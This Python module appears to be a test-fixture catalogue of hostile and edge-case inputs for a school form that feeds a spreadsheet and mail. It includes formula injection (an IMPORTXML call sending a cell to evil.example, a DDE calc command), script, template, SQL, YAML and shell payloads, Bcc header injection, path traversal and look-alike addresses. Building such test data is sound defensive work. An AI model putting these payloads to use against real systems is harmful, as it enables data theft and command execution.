"""One catalogue of what nobody should type and somebody will: each value by a name that says what it tries."""

from __future__ import annotations

FORMULAS = {
    "a formula": "=1+1",
    "a formula that fetches": '=IMPORTXML("https://evil.example/?"&A1,"//a")',
    "a formula that links": '=HYPERLINK("https://evil.example","see me")',
    "a plus": "+441632960101",
    "a minus": "-2+3",
    "an at": "@SUM(A1:A9)",
    "a tab and a formula": "\t=1+1",
    "a line break and a formula": "\r=cmd|' /C calc'!A0",
    "an apostrophe in front": "'=1+1",
}
MARKUP = {
    "a script": '<script>fetch("https://evil.example")</script>',
    "an image": "<img src=x onerror=evil()>",
    "an end of a quoted attribute": '"><evil-tag evil-a="1" onclick="evil()">',
    "an end of an attribute": "' autofocus onfocus=evil() evil-a='",
    "ends of everything": "</td></textarea></select></title></main></body></html><evil-tag>",
    "a comment": "<!-- --><evil-tag><!--",
    "a link that runs": "javascript:evil()",
    "entities": "&lt;script&gt;&#x3c;evil-tag&#x3e;",
    "a template's sum": "{{ 7*7 }}",
    "a template's statement": "{% include '/etc/passwd' %}{% raw %}",
    "a template's comment": "{# gone #}",
    "a format": "{0} {name} {settings.sender}",
    "a percent format": "%s %d %(name)s %n",
    "a shell's": "$(evil) `evil` ; evil | evil",
    "a console's markup": "[bold red]evil[/bold red] [/]",
}
LINES = {
    "a header": "x\r\nBcc: evil@evil.example\r\n",
    "a bare header": "x\nTo: evil@evil.example",
    "a folded header": "x\r\n Bcc: evil@evil.example",
    "a body": "x\r\n\r\n<evil-tag>evil@evil.example",
    "the end of a message": "\r\n.\r\nQUIT\r\n",
    "separators of lines": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "a tab": "a\tb",
}
CHARACTERS = {
    "a right-to-left override": "\u202egnp.exe",
    "isolates without end": "\u2066left\u2067right",
    "right-to-left letters": "שלום مرحبا",
    "zero widths": "a\u200bb\u200cc\u200dd\u2060e\ufeff",
    "a null": "a\x00b",
    "controls": "\x01\x07\x08\x1b[31mred\x1b]0;evil\x07\x7f\x9b31m",
    "a lone high surrogate": "a\ud800b",
    "a lone low surrogate": "\udc00",
    "not a character": "\ufffe\uffff\U0010ffff",
    "a private character": "\ue000\U000f0000",
    "a pile of accents": "Z" + "\u0301\u0327\u0336" * 100,
    "an accent alone": "\u0301",
    "a family": "👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿👍🏽",
    "names": "Zoë O’Neil-Łukasz d'Arc",
    "wide letters": "ＨＩＬＬ＠ｈｉｌｌ．ｅｘａｍｐｌｅ",
    "digits of elsewhere": "٣٤²①",
}
ADDRESSES = {
    "a look-alike letter": "attendance@hіll.example",
    "a look-alike domain": "attendance@hill-school.example.evil.example",
    "a domain that begins alike": "attendance@hill.example.evil.example",
    "a domain that ends alike": "attendance@evil-hill.example",
    "a plain stranger": "evil@evil.example",
    "two ats": "a@b@evil.example",
    "a quoted address": '"a b"@evil.example',
    "a named address": "Ann Example <evil@evil.example>",
    "two addresses": "attendance@hill.example, evil@evil.example",
    "two addresses and a semicolon": "attendance@hill.example;evil@evil.example",
    "a percent address": "attendance%hill.example@evil.example",
    "a route": "@evil.example:attendance@hill.example",
    "an international domain": "a@xn--hll-4xa.example",
    "a domain in brackets": "a@[127.0.0.1]",
    "a link of mail": "mailto:evil@evil.example?bcc=evil@evil.example",
    "an address and a header": "attendance@hill.example\r\nBcc: evil@evil.example",
    "an address with a null": "attendance@hill.example\x00.evil.example",
}
LENGTHS = {
    "nothing": "",
    "a blank": " ",
    "blanks": " \t\n\u00a0\u3000 ",
    "60,000 characters": "and then she said " * 3_333 + "stop!!",
    "60,000 astral characters": "💥" * 60_000,
    "one word of 60,000 letters": "x" * 60_000,
    "60,000 digits": "9" * 60_000,
    "60,000 quotes": '"' * 60_000,
    "30,000 characters": "thirty " * 4_285 + "thous",
    "a long word": "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch" * 5,
}
SYNTAX = {
    "JSON": '{"a": [1, null], "b": "\\ud800"}',
    "SQL": "'; DROP TABLE mail; --",
    "YAML": "!!python/object/apply:os.system ['evil']\n- &a *a",
    "a path": "../../../../etc/passwd",
    "a path of elsewhere": "C:\\Windows\\..\\evil.exe",
    "an address of the web": "https://evil.example/?q=<evil-tag>",
    "a range": "Pupils!A1:ZZ",
    "an error": "#REF!",
    "a word that is a value": "None",
    "a tick": "x",
    "a number's text": "1e309",
    "a date's text": "23/11/2026",
    "a day that is none": "31/02/2026",
    "the first day": "0001-01-01",
    "the last day": "31/12/9999",
    "a time's text": "09:00",
    "a time that is none": "25:61",
}
TEXTS: dict[str, str] = FORMULAS | MARKUP | LINES | CHARACTERS | ADDRESSES | LENGTHS | SYNTAX
"""What a form can hold."""
NUMBERS: dict[str, int | float | bool] = {
    "nought": 0,
    "one": 1,
    "less than nothing": -1,
    "a half": 0.5,
    "a date": 46349,
    "a date and time": 46349.39,
    "far too large a number": 1e300,
    "a very small number": 1e-300,
    "yes": True,
    "no": False,
}
"""What a cell can hold besides text."""
CELL = 50_000
"""UTF-16 units that a cell takes."""
TYPED: dict[str, str | int | float | bool] = {
    **{
        name: text[: CELL // 2] if len(text) > CELL // 2 else text
        for name, text in TEXTS.items()
        if text and "surrogate" not in name
    },
    "a full cell": "y" * CELL,
    **NUMBERS,
}
"""What a cell can hold: so many characters, and no half of a pair, because Google keeps whole text only."""
